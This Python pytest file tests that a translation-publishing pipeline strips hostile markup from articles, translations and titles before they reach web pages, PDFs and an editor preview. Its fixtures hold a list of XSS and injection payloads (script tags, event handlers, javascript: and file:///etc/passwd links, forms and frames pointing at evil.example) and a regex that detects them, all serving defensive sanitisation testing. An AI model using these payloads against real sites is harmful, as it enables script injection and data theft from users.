"""A hostile source: nothing of it but text, known elements and known addresses reaches page, PDF, catalog or desk."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from bs4 import BeautifulSoup

from pipeline import workbench
from pipeline.bench import open_bench
from pipeline.errors import NotAllowedError
from pipeline.publish import withdraw_editions
from pipeline.web import LoginStore, create_app
from pipeline.web.preview import render_preview

SLUG = "walking"

HOSTILE = """
<script>document.title = "evil"</script>
<p onclick="evil()" style="background:url(http://evil.example/1.png)">A paragraph with a handler.</p>
<p>A <a href="javascript:evil()">bad link</a>, a <a href="file:///etc/passwd">file link</a>,
a <a href="data:text/html,evil">data link</a> and
a <a href="https://good.example/" onmouseover="evil()">good link</a>.</p>
<style>body { background: url(http://evil.example/2.png) } @import "http://evil.example/3.css";</style>
<iframe src="http://evil.example/frame"></iframe>
<svg onload="evil()"><script>evil()</script><image href="file:///etc/passwd"/></svg>
<object data="http://evil.example/o"></object><embed src="http://evil.example/e">
<form action="http://evil.example/post"><input name="card"><button formaction="javascript:evil()">Pay</button></form>
<p>Text that looks like a placeholder: &lt;a3&gt; &lt;/a3&gt; &lt;x1&gt;40 mg&lt;/x1&gt;
&lt;script&gt;evil()&lt;/script&gt;.</p>
<p><img src="file:///etc/passwd" alt="A file"><img src="images/walk.png" onerror="evil()" alt="A picture"></p>
<p>Jinja {{ 7 * 7 }} and {% include "secret" %} stay text.</p>
<p>Msgfmt: %s %(name)s 20% of people "quoted" \\n backslash.</p>
<math><mtext><img src=x onerror=evil()></mtext></math>
<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">
"""

BAD = re.compile(
    r"<script|\son\w+\s*=|javascript:|file:|data:text|<iframe|<svg|<object|<embed|<form|<input|<base|http-equiv=.refresh"
    r"|evil\.example|@import",
    re.IGNORECASE,
)


@pytest.fixture
def hostile(ready: Any) -> Any:
    """The hostile article, every unit kept as in the source by one person and approved by another, published."""
    ready.change_page("<p>Most people", f"{HOSTILE}<p>Most people")
    articles, locales = ready.prepare()
    assert not [each.error for each in (*articles.values(), *locales.values()) if each.error]
    with ready.open() as workspace:
        tom, rita = ready.actor(workspace, "Tom"), ready.actor(workspace, "Rita")
        for item in open_bench(workspace, SLUG, "es").left:
            workbench.keep_source(workspace, SLUG, "es", item.id, version=item.status.version, actor=tom)
        for item in open_bench(workspace, SLUG, "es").left:
            for finding in item.blocking:
                workbench.waive_finding(workspace, SLUG, "es", item.id, finding.id, actor=rita, reason="A test.")
            version = open_bench(workspace, SLUG, "es").find(item.id).status.version
            workbench.approve_unit(workspace, SLUG, "es", item.id, version=version, actor=rita)
    return ready


def test_nothing_hostile_of_the_source_reaches_the_page(hostile: Any) -> None:
    result = hostile.publish()
    assert {o.locale: o.action for o in result.editions}["es"] == "published", (result.holds, result.errors)
    page = hostile.live_page()
    own = re.sub(r"<script type=\"application/ld\+json\">.*?</script>", "", page, flags=re.DOTALL)
    assert not BAD.findall(own)
    assert 'href="https://good.example/"' in page
    assert "&lt;script&gt;evil()&lt;/script&gt;" in page
    assert "&lt;a3&gt;" in page
    assert "{{ 7 * 7 }}" in page
    for path in hostile.site.rglob("*"):
        if path.suffix in (".html", ".css", ".xml"):
            assert "evil.example" not in path.read_text("utf-8")


def test_nothing_hostile_of_the_source_reaches_the_pdf(hostile: Any) -> None:
    hostile.publish()
    with pikepdf.open(hostile.live_pdf()) as pdf:
        assert not pdf.attachments
        links = []
        for page in pdf.pages:
            for annotation in page.get("/Annots", []):
                action = annotation.get("/A", {})
                assert "/JavaScript" not in str(action.get("/S", ""))
                links.append(str(action.get("/URI", "")))
    assert "https://good.example/" in links
    assert not [link for link in links if BAD.search(link)]
    data = hostile.live_pdf().read_bytes()
    assert b"root:x:0" not in data


def test_nothing_hostile_of_the_source_reaches_the_desks_preview(hostile: Any, tmp_path: Path) -> None:
    with hostile.open() as workspace:
        app = create_app(workspace, logins=LoginStore(tmp_path / "links"))
        bench = open_bench(workspace, SLUG, "es")
        for side in ("source", "target"):
            shown = render_preview(app.state.desk, bench, unit=bench.items[2].id, side=side, images={})  # type: ignore[arg-type]
            assert "A paragraph with a handler." in shown
            assert not BAD.findall(shown)


def test_a_translation_cannot_bring_markup_of_its_own(hostile: Any) -> None:
    source = "A paragraph with a handler."
    text = 'Un <script>evil()</script> <a href="javascript:evil()">párrafo</a> <img src=x onerror=evil()>.'
    hostile.save(source, text)
    with hostile.open() as workspace:
        rita = hostile.actor(workspace, "Rita")
        item = hostile.item(source)
        for finding in item.blocking:
            workbench.waive_finding(workspace, SLUG, "es", item.id, finding.id, actor=rita, reason="A test.")
    hostile.approve(source)
    result = hostile.publish()
    assert {o.locale: o.action for o in result.editions}["es"] == "published", (result.holds, result.errors)
    page = BeautifulSoup(hostile.live_page(), "html.parser")
    shown = page.find("p", attrs={"data-unit": item.id})
    assert shown is not None
    assert shown.get_text() == text
    assert not shown.find_all(True)


def test_an_invented_placeholder_can_be_neither_waived_nor_approved(live: Any) -> None:
    text = "Camine <a3>5 minutos</a3> dos veces al día en la primera semana."
    live.save("Walk for 5 minutes", text)
    item = live.item("Walk for 5 minutes")
    assert item.blocking
    with pytest.raises(NotAllowedError, match="finding"):
        live.approve("Walk for 5 minutes")
    live.publish()
    assert "&lt;a3" not in live.live_page()


def test_a_title_cannot_break_out_of_any_place_where_it_is_shown(live: Any) -> None:
    title = 'Caminar</title></script><script>evil()</script>"><img src=x onerror=evil()>'
    live.save_and_approve("Walking after surgery", title)
    result = live.publish()
    assert {o.locale: o.action for o in result.editions}["es"] == "updated", (result.holds, result.errors)
    for path in (live.site / SLUG / "es" / "index.html", live.site / "index.html"):
        page = BeautifulSoup(path.read_text("utf-8"), "html.parser")
        assert not [script for script in page.find_all("script") if script.get("type") != "application/ld+json"]
        assert not page.find_all("img", src="x")
        assert "evil()" in page.get_text()
    with live.open() as workspace:
        withdraw_editions(workspace, SLUG, ["es"], actor=live.actor(workspace, "Olga"), why=title)
    notice = BeautifulSoup(live.live_page(), "html.parser")
    assert not notice.find_all("script", string=lambda text: bool(text) and "evil" in text)
